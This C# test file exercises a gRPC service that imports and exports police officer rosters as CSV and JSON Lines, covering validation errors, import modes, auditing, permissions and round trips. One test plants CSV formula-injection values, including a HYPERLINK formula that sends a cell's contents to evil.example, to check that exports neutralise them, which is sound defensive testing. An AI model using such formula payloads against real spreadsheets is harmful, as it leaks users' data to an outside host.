using System.Diagnostics;
using System.Text;
using Google.Protobuf;
using Grpc.Core;
using Training.Service.Tests.Support;
using Unpol.Training.V1;
using Xunit.Abstractions;

namespace Training.Service.Tests.Api;

/// <summary>ImportOfficers and ExportOfficers through the real gRPC channel, as an HR system or a focal point uses them.</summary>
public sealed class RosterImportTests(ITestOutputHelper output) : IAsyncLifetime
{
    private const string Header = "national_police_id,family_name,given_name,gender,birth_date,rank,service_start_date,availability,languages,skills";

    /// <summary>Lines 2, 6 and 9 are good; 3, 4, 5, 7 and 8 are bad (5 repeats line 2's ID).</summary>
    private static readonly string MixedCsv = string.Join("\n",
        Header,
        "SN-1001,Diop,Awa,female,1986-05-14,Commissaire de police,2011-09-01,available,fr:C1/C1/B2/C1;en:B2/B2/B1/B2,forensics:advanced",
        "SN-1002,Ndiaye,Moussa,male,1980-02-30,Lieutenant,2004-03-01,available,fr:C2/C2/C2/C2,",
        "SN-1003,Faye,Fatou,female,1990-01-01,Inspecteur,2014-06-01,deployed,fr:C1/C1/C1/C1,juggling:basic",
        "sn-1001,Sow,Ibrahima,male,1979-11-02,Capitaine,2001-01-01,available,,",
        "SN-1004,\"Ba, dite \"\"Mami\"\"\",Aïssatou,female,1985-08-19,Commandant,2009-10-01,available,fr:C1/C1/C1/C1;ar:B1/B1/-/B1,gender:expert;sgbv-investigation:advanced",
        "SN-1005,Sarr,,female,1983-04-04,Brigadier,2011/09/01,available,,",
        "SN-1006,Gueye,Omar,man,1982-12-12,Adjudant,2006-05-05,unavailable,,",
        "SN-1007,Mbaye,Khady,female,1988-07-21,Inspecteur principal,2012-01-15,available,fr:C2/C2/C1/C1,community-oriented-policing:intermediate",
        "");

    private TestService _service = null!;
    private RosterService.RosterServiceClient _senegal = null!;

    public async Task InitializeAsync()
    {
        _service = await TestService.StartAsync();
        _senegal = new RosterService.RosterServiceClient(_service.As(await _service.FocalPointAsync("SN")));
    }

    public async Task DisposeAsync() => await _service.DisposeAsync();

    [Fact]
    public async Task Import_BestEffort_AppliesTheGoodRowsAndReportsEveryBadRowWithLineAndField()
    {
        var result = await ImportAsync(_senegal, MixedCsv, ImportMode.BestEffort);

        Assert.Equal(
            [(3L, "birth_date"), (4L, "skills"), (5L, "national_police_id"), (7L, "given_name"), (7L, "service_start_date"), (8L, "gender")],
            result.Errors.Select(e => (e.Line, e.Field)));
        Assert.Contains("not a calendar day", result.Errors[0].Reason);
        Assert.Equal("entry 1, skill_code: \"juggling\" is not in the skill vocabulary (see ListSkills).", result.Errors[1].Reason);
        Assert.Equal("duplicate of line 2: a national police ID may appear once in a file.", result.Errors[2].Reason);
        Assert.Equal("sn-1001", result.Errors[2].NationalPoliceId);
        Assert.Equal(new ImportSummary { RowsRead = 8, Created = 3, Rejected = 5, Applied = true }, result.Summary);

        var roster = await RosterAsync(_senegal);
        Assert.Equal(["SN-1004", "SN-1001", "SN-1007"], roster.Select(o => o.NationalPoliceId));
        Assert.Equal("Diop", roster.Single(o => o.NationalPoliceId == "SN-1001").FamilyName);
        var ba = roster[0];
        Assert.Equal(("Ba, dite \"Mami\"", "Aïssatou"), (ba.FamilyName, ba.GivenName));
        Assert.Equal(CefrLevel.Unspecified, ba.Languages.Single(l => l.LanguageCode == "ar").Writing);
    }

    [Fact]
    public async Task Import_AllOrNothing_WithABadRow_ReportsTheSameRowsAndAppliesNothing()
    {
        var result = await ImportAsync(_senegal, MixedCsv, ImportMode.AllOrNothing);

        Assert.Equal([3L, 4L, 5L, 7L, 7L, 8L], result.Errors.Select(e => e.Line));
        Assert.Equal(new ImportSummary { RowsRead = 8, Rejected = 5, Applied = false }, result.Summary);
        Assert.Empty(await RosterAsync(_senegal));
        Assert.Empty(await OfficerAuditAsync());
    }

    [Fact]
    public async Task Import_AllOrNothing_WithOnlyGoodRows_AppliesThemAll()
    {
        var result = await ImportAsync(_senegal, GoodRowsOf(MixedCsv), ImportMode.AllOrNothing);

        Assert.Empty(result.Errors);
        Assert.Equal(new ImportSummary { RowsRead = 3, Created = 3, Applied = true }, result.Summary);
        Assert.Equal(3, (await RosterAsync(_senegal)).Count);
    }

    [Fact]
    public async Task Import_TheSameFileAgain_FindsEveryRowUnchangedAndAuditsNothing()
    {
        var file = GoodRowsOf(MixedCsv);
        await ImportAsync(_senegal, file, ImportMode.BestEffort);
        var roster = await RosterAsync(_senegal);
        var audited = await OfficerAuditAsync();
        Assert.Equal(3, audited.Count);
        Assert.All(audited, e => Assert.Equal(("RosterService/ImportOfficers", "added the officer to the roster"), (e.Method, e.Summary)));

        var again = await ImportAsync(_senegal, file, ImportMode.BestEffort);

        Assert.Equal(new ImportSummary { RowsRead = 3, Unchanged = 3, Applied = true }, again.Summary);
        Assert.Equal(roster, await RosterAsync(_senegal));
        Assert.Equal(3, (await OfficerAuditAsync()).Count);
    }

    [Fact]
    public async Task Import_AKnownNationalPoliceId_UpdatesThatOfficerWithOneAuditEvent()
    {
        var created = await _senegal.CreateOfficerAsync(new CreateOfficerRequest
        {
            Parent = "memberStates/SN",
            Officer = Samples.Officer(policeId: "SN-2001"),
        });
        var exported = await ExportAsync(_senegal, RosterFileFormat.Csv);
        var edited = exported.Replace("Inspecteur de police", "Commissaire de police");

        var result = await ImportAsync(_senegal, edited, ImportMode.BestEffort);

        Assert.Equal(new ImportSummary { RowsRead = 1, Updated = 1, Applied = true }, result.Summary);
        var officer = Assert.Single(await RosterAsync(_senegal));
        Assert.Equal(created.Name, officer.Name);
        Assert.Equal("Commissaire de police", officer.Rank);
        Assert.NotEqual(created.Etag, officer.Etag);
        var update = Assert.Single(await OfficerAuditAsync(), e => e.Method == "RosterService/ImportOfficers");
        Assert.Equal((created.Name, "updated rank"), (update.Resource, update.Summary));
    }

    [Theory]
    [InlineData(ImportMode.BestEffort)]
    [InlineData(ImportMode.AllOrNothing)]
    public async Task Import_TheIdOfAnAnonymisedOfficer_IsARowErrorAndTheRecordStaysAnonymised(ImportMode mode)
    {
        await using var world = await NominationWorld.StartAsync();
        var officer = await world.OfficerAsync();
        var nomination = await world.SubmitAsync(officer, await world.OpenSessionAsync());
        await world.Senegal.WithdrawNominationAsync(new WithdrawNominationRequest { Name = nomination.Name, Reason = "Retiring." });
        await world.SenegalRoster.DeleteOfficerAsync(new DeleteOfficerRequest { Name = officer.Name });
        var anonymised = await world.SenegalRoster.GetOfficerAsync(new GetOfficerRequest { Name = officer.Name });

        var file = $"{Header}\n{anonymised.NationalPoliceId},Diop,Awa,female,1986-05-14,,2011-09-01,available,,\n";
        var result = await ImportAsync(world.SenegalRoster, file, mode);

        var error = Assert.Single(result.Errors);
        Assert.Equal((2L, "national_police_id"), (error.Line, error.Field));
        Assert.Contains("anonymised", error.Reason);
        Assert.Equal(new ImportSummary { RowsRead = 1, Rejected = 1, Applied = mode == ImportMode.BestEffort }, result.Summary);
        Assert.Equal(anonymised, await world.SenegalRoster.GetOfficerAsync(new GetOfficerRequest { Name = officer.Name }));
    }

    [Fact]
    public async Task Import_JsonLines_AppliesGoodObjectsAndReportsBadOnes()
    {
        var file = string.Join("\n",
            """{"national_police_id":"SN-3001","family_name":"Diène","given_name":"Marème","gender":"female","birth_date":"1987-03-09","service_start_date":"2010-02-01","availability":"available","languages":"fr:C2/C2/C1/C2;wo:C2/C2/-/C2","skills":"child-protection:advanced","human_rights_screening":"cleared:2026-01-05"}""",
            "",
            """{"national_police_id":"SN-3002","family_name":"Kane","given_name":"Cheikh","gender":"male","birthdate":"1981-01-01","service_start_date":"2003-01-01","availability":"available"}""",
            """{"national_police_id":"SN-3003","family_name":"Touré","given_name":"Seydou","gender":"male","birth_date":"1978-10-10","service_start_date":"2000-09-01","availability":"deployed","misconduct_check":"flagged"}""",
            """{"national_police_id":"SN-3004", broken""",
            "");

        var result = await ImportAsync(_senegal, file, ImportMode.BestEffort, RosterFileFormat.JsonLines);

        Assert.Equal([(3L, "birthdate"), (4L, "misconduct_check"), (5L, "")], result.Errors.Select(e => (e.Line, e.Field)));
        Assert.Equal("date: is required once a status is recorded.", result.Errors[1].Reason);
        Assert.Equal(new ImportSummary { RowsRead = 4, Created = 1, Rejected = 3, Applied = true }, result.Summary);
        var officer = Assert.Single(await RosterAsync(_senegal));
        Assert.Equal(("Diène", "Marème", "wo"), (officer.FamilyName, officer.GivenName, officer.Languages[1].LanguageCode));
        Assert.Equal(new VettingItem { Status = VettingStatus.Cleared, Date = Samples.Date(2026, 1, 5) }, officer.Vetting.HumanRightsScreening);
    }

    [Fact]
    public async Task Import_IntoAnotherMemberState_IsPermissionDenied()
    {
        var error = await Assert.ThrowsAsync<RpcException>(() =>
            ImportAsync(_senegal, GoodRowsOf(MixedCsv), ImportMode.BestEffort, parent: "memberStates/FR"));
        Assert.Equal(StatusCode.PermissionDenied, error.StatusCode);
    }

    [Fact]
    public async Task Import_WithoutSettingsFirst_IsInvalidArgument()
    {
        using var call = _senegal.ImportOfficers();
        await call.RequestStream.WriteAsync(new ImportOfficersRequest { Chunk = ByteString.CopyFromUtf8(Header) });
        await call.RequestStream.CompleteAsync();

        var error = await Assert.ThrowsAsync<RpcException>(() => call.ResponseStream.MoveNext());
        Assert.Equal(StatusCode.InvalidArgument, error.StatusCode);
        Assert.Equal(["settings"], error.BadFields());
    }

    [Fact]
    public async Task Import_WithIncompleteSettings_NamesEveryMissingSetting()
    {
        var error = await Assert.ThrowsAsync<RpcException>(() =>
            ImportAsync(_senegal, Header, ImportMode.Unspecified, RosterFileFormat.Unspecified));
        Assert.Equal(StatusCode.InvalidArgument, error.StatusCode);
        Assert.Equal(["settings.format", "settings.mode"], error.BadFields());
    }

    [Fact]
    public async Task Import_CsvWithAnUnknownColumn_IsRefusedBeforeAnyRow()
    {
        var error = await Assert.ThrowsAsync<RpcException>(() =>
            ImportAsync(_senegal, MixedCsv.Replace("birth_date,", "birthdate,"), ImportMode.BestEffort));
        Assert.Equal(StatusCode.InvalidArgument, error.StatusCode);
        Assert.Equal(["header", "header"], error.BadFields());
        Assert.Empty(await RosterAsync(_senegal));
    }

    [Fact]
    public async Task Import_AChunkOverOneMebibyte_IsResourceExhausted()
    {
        var error = await Assert.ThrowsAsync<RpcException>(() =>
            ImportAsync(_senegal, Header + "\n" + new string(' ', 1024 * 1024), ImportMode.BestEffort, chunkSize: 2 * 1024 * 1024));
        Assert.Equal(StatusCode.ResourceExhausted, error.StatusCode);
        Assert.Equal("IMPORT_CHUNK_TOO_LARGE", error.Reason());
    }

    [Theory]
    [InlineData(RosterFileFormat.Csv)]
    [InlineData(RosterFileFormat.JsonLines)]
    public async Task Export_ThenImportIntoAFreshService_GivesIdenticalOfficers(RosterFileFormat format)
    {
        await CreateCoursesAsync(_service);
        foreach (var officer in RichOfficers())
            await _senegal.CreateOfficerAsync(new CreateOfficerRequest { Parent = "memberStates/SN", Officer = officer });
        var exported = await ExportAsync(_senegal, format);

        await using var fresh = await TestService.StartAsync();
        await CreateCoursesAsync(fresh);
        var freshSenegal = new RosterService.RosterServiceClient(fresh.As(await fresh.FocalPointAsync("SN")));
        var result = await ImportAsync(freshSenegal, exported, ImportMode.AllOrNothing, format);

        Assert.Empty(result.Errors);
        Assert.Equal(new ImportSummary { RowsRead = 3, Created = 3, Applied = true }, result.Summary);
        Assert.Equal(Comparable(await RosterAsync(_senegal)), Comparable(await RosterAsync(freshSenegal)));
        Assert.Equal(exported, await ExportAsync(freshSenegal, format));

        var back = await ImportAsync(_senegal, exported, ImportMode.BestEffort, format);
        Assert.Equal(new ImportSummary { RowsRead = 3, Unchanged = 3, Applied = true }, back.Summary);
    }

    [Fact]
    public async Task ExportToCsv_NeutralisesCellsASpreadsheetWouldRun_AndImportsBackUnchanged()
    {
        var dangerous = new[]
        {
            Samples.Officer("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "Awa", policeId: "-42"),
            Samples.Officer("+221 77 000 00 00", "@Moussa", policeId: "=1+1"),
            Samples.Officer("-Ndiaye", "'=already quoted", policeId: "@SUM(A1:A9)"),
            Samples.Officer("'Abdoulaye", "''", policeId: "SN-PLAIN"),
        };
        dangerous[0].Rank = "-";
        dangerous[1].Rank = "@inspector";
        foreach (var officer in dangerous)
            await _senegal.CreateOfficerAsync(new CreateOfficerRequest { Parent = "memberStates/SN", Officer = officer });
        var before = await RosterAsync(_senegal);

        var exported = await ExportAsync(_senegal, RosterFileFormat.Csv);

        var cells = exported.ReplaceLineEndings("\n").Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1)
            .SelectMany(CsvCells).ToList();
        Assert.DoesNotContain(cells, cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        Assert.Contains("'-42", cells);
        Assert.Contains("''=already quoted", cells);
        Assert.Contains("'Abdoulaye", cells);
        var back = await ImportAsync(_senegal, exported, ImportMode.AllOrNothing);
        Assert.Empty(back.Errors);
        Assert.Equal(new ImportSummary { RowsRead = 4, Unchanged = 4, Applied = true }, back.Summary);
        Assert.Equal(before, await RosterAsync(_senegal));
    }

    [Fact]
    public async Task SampleRosterOfTheDocs_ImportsWithoutABadRow()
    {
        await CreateCoursesAsync(_service);
        var sample = await File.ReadAllTextAsync(Path.Combine(RepositoryRoot(), "docs", "sample-roster.csv"));

        var result = await ImportAsync(_senegal, sample, ImportMode.AllOrNothing, chunkSize: 4096);

        Assert.Empty(result.Errors);
        Assert.Equal(15, result.Summary.Created);
        // The sample is written as the export writes: the same lines, in name order there.
        var exported = await ExportAsync(_senegal, RosterFileFormat.Csv);
        Assert.Equal(sample.ReplaceLineEndings().Split(Environment.NewLine).Order(), exported.ReplaceLineEndings().Split(Environment.NewLine).Order());
    }

    [Fact]
    public async Task Export_ComesInChunksCountingRows()
    {
        var file = new StringBuilder(Header).Append('\n');
        for (var i = 0; i < 1500; i++)
            file.Append($"SN-{i:D5},Diallo,Mamadou {i},male,1980-01-01,Agent,2005-01-01,available,fr:B2/B2/B1/B2,\n");
        await ImportAsync(_senegal, file.ToString(), ImportMode.BestEffort, chunkSize: 64 * 1024);

        using var call = _senegal.ExportOfficers(new ExportOfficersRequest { Parent = "memberStates/SN", Format = RosterFileFormat.Csv });
        var chunks = new List<ExportOfficersResponse>();
        while (await call.ResponseStream.MoveNext()) chunks.Add(call.ResponseStream.Current);

        Assert.True(chunks.Count > 1, $"expected several chunks, got {chunks.Count}");
        Assert.All(chunks, c => Assert.InRange(c.Chunk.Length, 1, 80 * 1024));
        Assert.Equal(1500, chunks[^1].Rows);
        Assert.Equal(chunks.Select(c => c.Rows).Order(), chunks.Select(c => c.Rows));
    }

    [Fact]
    public async Task Import_TenThousandRows_FinishesInReasonableTime()
    {
        const int count = 10_000;
        var file = new StringBuilder(Header).Append(",ams_pass_date,human_rights_screening\n");
        for (var i = 0; i < count; i++)
            file.Append($"SN-{i:D6},Ndour,Aminata {i},female,1985-06-15,Sergent,2008-03-01,available,fr:C1/C1/B2/C1;en:B1/B1/A2/B1,forensics:basic;gender:intermediate,2026-02-02,cleared:2026-01-05\n");

        var clock = Stopwatch.StartNew();
        var result = await ImportAsync(_senegal, file.ToString(), ImportMode.BestEffort, chunkSize: 64 * 1024);
        clock.Stop();

        output.WriteLine($"Imported {count:N0} rows in {clock.Elapsed.TotalSeconds:F1} s: {count / clock.Elapsed.TotalSeconds:N0} rows/s.");
        Assert.Equal(new ImportSummary { RowsRead = count, Created = count, Applied = true }, result.Summary);
        Assert.Equal(count / 1000, result.Progress.Count);
        Assert.Equal(count, result.Progress[^1].RowsRead);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(60), $"took {clock.Elapsed}");
    }

    /// <summary>What an import answered: the bad rows, the progress reports and the summary, which must come last.</summary>
    private sealed record ImportResult(IReadOnlyList<ImportOfficersResponse> Answers)
    {
        public IReadOnlyList<ImportRowError> Errors => Answers.Where(a => a.RowError is not null).Select(a => a.RowError).ToList();
        public IReadOnlyList<ImportProgress> Progress => Answers.Where(a => a.Progress is not null).Select(a => a.Progress).ToList();
        public ImportSummary Summary => Answers[^1].Summary ?? throw new InvalidOperationException("The last answer is not the summary.");
    }

    /// <summary>Sends settings and the file in chunks while reading the answers, as a streaming client must.</summary>
    private static async Task<ImportResult> ImportAsync(RosterService.RosterServiceClient client, string file, ImportMode mode,
        RosterFileFormat format = RosterFileFormat.Csv, string parent = "memberStates/SN", int chunkSize = 7)
    {
        using var call = client.ImportOfficers();
        var answers = ReadAllAsync(call.ResponseStream);
        try
        {
            await call.RequestStream.WriteAsync(new ImportOfficersRequest
            {
                Settings = new ImportSettings { Parent = parent, Format = format, Mode = mode },
            });
            // Small chunks by default, so multi-byte characters and rows are split across chunks.
            var bytes = Encoding.UTF8.GetBytes(file);
            for (var at = 0; at < bytes.Length; at += chunkSize)
                await call.RequestStream.WriteAsync(new ImportOfficersRequest { Chunk = ByteString.CopyFrom(bytes, at, Math.Min(chunkSize, bytes.Length - at)) });
            await call.RequestStream.CompleteAsync();
        }
        catch (RpcException)
        {
            // The service ended the call early; its status comes with the answers.
        }
        return new ImportResult(await answers);
    }

    private static async Task<List<ImportOfficersResponse>> ReadAllAsync(IAsyncStreamReader<ImportOfficersResponse> stream)
    {
        var answers = new List<ImportOfficersResponse>();
        while (await stream.MoveNext()) answers.Add(stream.Current);
        return answers;
    }

    private static async Task<string> ExportAsync(RosterService.RosterServiceClient client, RosterFileFormat format)
    {
        using var call = client.ExportOfficers(new ExportOfficersRequest { Parent = "memberStates/SN", Format = format });
        var file = new MemoryStream();
        while (await call.ResponseStream.MoveNext()) call.ResponseStream.Current.Chunk.WriteTo(file);
        return Encoding.UTF8.GetString(file.ToArray());
    }

    /// <summary>The cells of one CSV line as a spreadsheet reads them: quotes taken off, doubled quotes made single.</summary>
    private static IEnumerable<string> CsvCells(string line)
    {
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (c == ',' && !quoted) { yield return cell.ToString(); cell.Clear(); }
            else cell.Append(c);
        }
        yield return cell.ToString();
    }

    private static async Task<List<Officer>> RosterAsync(RosterService.RosterServiceClient client)
    {
        var page = await client.ListOfficersAsync(new ListOfficersRequest { Parent = "memberStates/SN", PageSize = 500 });
        return [.. page.Officers];
    }

    private async Task<List<AuditEvent>> OfficerAuditAsync()
    {
        var access = new AccessService.AccessServiceClient(_service.AsAdmin());
        var page = await access.ListAuditEventsAsync(new ListAuditEventsRequest { Resource = "memberStates/SN", PageSize = 1000 });
        return [.. page.AuditEvents];
    }

    private static string RepositoryRoot()
    {
        var folder = new DirectoryInfo(AppContext.BaseDirectory);
        while (!File.Exists(Path.Combine(folder.FullName, "Training.sln"))) folder = folder.Parent!;
        return folder.FullName;
    }

    /// <summary>The header and the good rows (2, 6 and 9) of <see cref="MixedCsv"/>.</summary>
    private static string GoodRowsOf(string csv)
    {
        var lines = csv.Split('\n');
        return string.Join("\n", lines[0], lines[1], lines[5], lines[8]) + "\n";
    }

    /// <summary>The officers as the import writes them: without what the service assigns.</summary>
    private static List<Officer> Comparable(IEnumerable<Officer> officers) => officers.Select(o =>
    {
        var copy = o.Clone();
        copy.Name = copy.Etag = "";
        copy.CreateTime = copy.UpdateTime = null;
        return copy;
    }).ToList();

    private static async Task CreateCoursesAsync(TestService service)
    {
        var catalog = new CatalogService.CatalogServiceClient(service.AsAdmin());
        await catalog.CreateCourseAsync(new CreateCourseRequest { CourseId = "cptm", Course = Samples.Course("CPTM", "Core Pre-deployment Training Materials") });
        await catalog.CreateCourseAsync(new CreateCourseRequest { CourseId = "unpol-stm", Course = Samples.Course() });
        await catalog.CreateCourseAsync(new CreateCourseRequest { CourseId = "unpol-stm-fr", Course = Samples.Course("UNPOL-STM-FR") });
    }

    /// <summary>Officers using every column: accents and quotes, retirement, every certification and vetting form.</summary>
    private static IEnumerable<Officer> RichOfficers()
    {
        var first = Samples.Officer("N'Diaye, \"Sène\"", "Aïssatou", policeId: "SN-0001");
        first.RetirementDate = Samples.Date(2026, 6, 30);
        first.Languages[1].Writing = CefrLevel.Unspecified;
        first.Skills.Add(new SkillProficiency { SkillCode = "sgbv-investigation", Level = SkillLevel.Expert });
        first.Certifications.Firearms = new FirearmsQualification { QualificationDate = Samples.Date(2015, 2, 3) };
        first.Certifications.CompletedCourses.Add(new CompletedCourse
        {
            Course = "courses/cptm",
            CompletionDate = Samples.Date(2024, 3, 1),
            ExpiryDate = Samples.Date(2028, 3, 1),
        });
        first.Certifications.CompletedCourses.Add(new CompletedCourse { Course = "courses/unpol-stm", CompletionDate = Samples.Date(2025, 1, 10) });
        first.Vetting.SelfAttestation = new VettingItem { Status = VettingStatus.Pending };
        first.Vetting.MedicalClearance = new VettingItem { Date = Samples.Date(2026, 1, 10) };
        first.Availability = Availability.Deployed;

        var second = Samples.Officer("Fall", "Babacar", Gender.Male, policeId: "SN-0002");
        second.Rank = "";
        second.Languages.Clear();
        second.Skills.Clear();
        second.Certifications = new Certifications();
        second.Vetting = new Vetting { MisconductCheck = new VettingItem { Status = VettingStatus.Flagged, Date = Samples.Date(2025, 12, 1) } };
        second.Availability = Availability.Unavailable;

        var third = Samples.Officer("Camara", "Ndèye Fatou", policeId: "SN-0003");
        third.Certifications.AmsPass.LanguageCode = "";

        return [first, second, third];
    }
}
